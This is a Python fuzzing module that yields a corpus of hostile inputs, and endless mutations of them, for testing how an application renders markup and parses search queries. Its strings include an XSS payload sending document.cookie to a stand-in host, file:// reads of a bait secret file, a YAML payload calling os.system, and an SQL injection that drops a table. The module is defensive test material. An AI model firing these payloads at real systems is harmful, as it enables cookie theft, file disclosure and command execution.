"""Hostile text: a corpus of what is known to be bad, and endless variations of it."""

import random
from collections.abc import Iterator

MARKUP = (
    "<script>fetch('http://example.invalid/'+document.cookie)</script>",
    "<img src='{bait}/image.png'><img src=\"file://{bait}/secret.txt\"><img srcset='{bait}/image.png 2x'>",
    "<img src=x onerror=alert(1)><svg onload=alert(1)><image href='{bait}/image.png'/></svg>",
    "<iframe src='{bait}/secret.txt'></iframe><object data='{bait}/secret.txt'></object><embed src='{bait}/secret.txt'>",
    "<link rel=stylesheet href='file://{bait}/secret.txt'><style>@import url({bait}/secret.txt)</style>",
    "<p style='background:url({bait}/image.png)'>ground</p><table background='{bait}/image.png'><td>cell",
    "<a href='javascript:alert(1)'>here</a><a href='file://{bait}/secret.txt'>there</a><a href='//example.invalid'>far",
    "<base href='file://{bait}/'><img src='image.png'><meta http-equiv=refresh content='0;url=http://example.invalid'>",
    "<video src='http://example.invalid/a.mp4' poster='{bait}/image.png'></video><audio src='{bait}/secret.txt'>",
    "<!--[if mso]><v:imagedata src='{bait}/image.png'/><![endif]--><o:p></o:p><![CDATA[<img src={bait}/image.png>]]>",
    "<ul><li>one<ol><li>two</ol></ul><pre><code>x</code></pre><blockquote>q</blockquote><h1>h</h1>",
    "&lt;img src='{bait}/image.png'&gt; &amp;lt;script&amp;gt; &#0; &#xD800; &#x10FFFF; &nbsp;&zwj;",
    "![picture]({bait}/image.png) ![p](file://{bait}/secret.txt) [l](javascript:alert(1)) <{bait}/image.png>",
    "[ref]: file://{bait}/secret.txt 'title'\n\n![ref][ref] [![nested]({bait}/image.png)](http://example.invalid)",
    "---\npractice: !!python/object/apply:os.system ['touch {bait}/ran']\n--- &a [*a, *a] {{{{config}}}} {% raw %}",
    "# h\n## h\n- [ ] task\n- [x] done\n1. one\n> quote\n```\ncode\n~~~\n| a | b |\n|---|---|\n***bold***",
)
QUERIES = (
    '"', "''", "a AND", "OR OR", "NEAR(a b, 3)", "title:x", "-x", "^x", "x*", "*", "(((", "{a b}: c", "a + b",
    "'; DROP TABLE client; --", "\\", "%", "_", "NOT", '"a" "b', "a:b:c", "\x00", "\ud800", "🌿", "ﬁ", "İ",
)  # fmt: skip
SIGNS = (
    "\x00\x01\x07\x08\x1b\x7f\x85\xa0\xad\u0130\u0300\u034f\u061c\u115f\u1680\u180e\u200b\u200d\u200e\u202e\u2028\u2029"
    "\u2066\u3000\ud800\udfff\ufb01\ufdd0\ufe0f\ufeff\uffff\U0001f33f\U000e0001\U0010ffff<>&\"'`*_~#[](){}|\\/-+=:;!?@$%^\n\t "
)
_DEEP = (
    "<div>",
    "<ul><li>",
    "<b>",
    "<blockquote>",
    "> ",
    "[",
    "![",
    "*",
    "**",
    "_",
    "`",
    "~~",
    "(",
    "- ",
    "\t",
    "&",
    "<",
    "{{",
)
_LONGEST = 20_000


def hostile_texts(draw: random.Random, bait: str) -> Iterator[str]:
    """Texts without end: the corpus first, then pieces of it put together, bent, repeated and nested."""
    known = [each.replace("{bait}", bait) for each in (*MARKUP, *QUERIES)]
    yield from known
    while True:
        text = "".join(draw.choice(known) for _ in range(draw.randint(1, 3)))
        for _ in range(draw.randint(0, 6)):
            text = _bent(text, draw)
        yield text[:_LONGEST]


def _bent(text: str, draw: random.Random) -> str:
    at = draw.randint(0, len(text))
    match draw.randint(0, 5):
        case 0:
            return text[:at] + draw.choice(SIGNS) * draw.randint(1, 4) + text[at:]
        case 1:
            return text[:at] + text[at + draw.randint(1, 20) :]
        case 2:
            return text[:at] + text[draw.randint(0, at) : at] * draw.randint(1, 5) + text[at:]
        case 3:
            return text[:at] + draw.choice(_DEEP) * draw.choice((3, 30, 300, 3000)) + text[at:]
        case 4:
            return text[at:] + text[:at]
        case _:
            return text.swapcase()
